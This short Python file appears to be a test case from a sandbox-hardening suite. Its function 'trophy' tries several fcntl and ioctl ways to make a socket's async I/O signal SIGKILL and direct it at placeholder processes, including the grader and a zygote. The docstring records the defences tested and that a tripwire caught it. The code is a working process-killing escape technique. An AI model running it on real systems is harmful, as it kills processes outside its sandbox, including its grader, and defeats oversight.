# ruff: noqa
"""The kernel is asked to send SIGKILL to others whenever something can be read.

defence: uid + landlock: abstract sockets and signals + seccomp: requests about descriptors
control: naive
wins: tripwire
"""

import ctypes, fcntl, os, signal, socket, struct

F_SETSIG, F_SETOWN_EX = 10, 15
FIOSETOWN, SIOCSPGRP, FIOASYNC = 0x8901, 0x8902, 0x5452
WAYS = (
    lambda own, pid: fcntl.fcntl(own, fcntl.F_SETOWN, pid),
    lambda own, pid: fcntl.fcntl(own, F_SETOWN_EX, struct.pack("ii", 1, pid)),
    lambda own, pid: fcntl.ioctl(own, FIOSETOWN, struct.pack("i", pid)),
    lambda own, pid: fcntl.ioctl(own, SIOCSPGRP, struct.pack("i", pid)),
)


def trophy():
    for way in WAYS:
        for victim in map(int, ("@VICTIM@", "@SIBLING@", "@GRADER@", "@ZYGOTE@")):
            own, other = socket.socketpair()
            for step in (
                lambda: way(own, victim),
                lambda: fcntl.fcntl(own, F_SETSIG, signal.SIGKILL),
                lambda: fcntl.fcntl(own, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK),
                lambda: fcntl.ioctl(own, FIOASYNC, struct.pack("i", 1)),
                lambda: other.send(b"x"),
            ):
                try:
                    step()
                except OSError:
                    pass
    return None
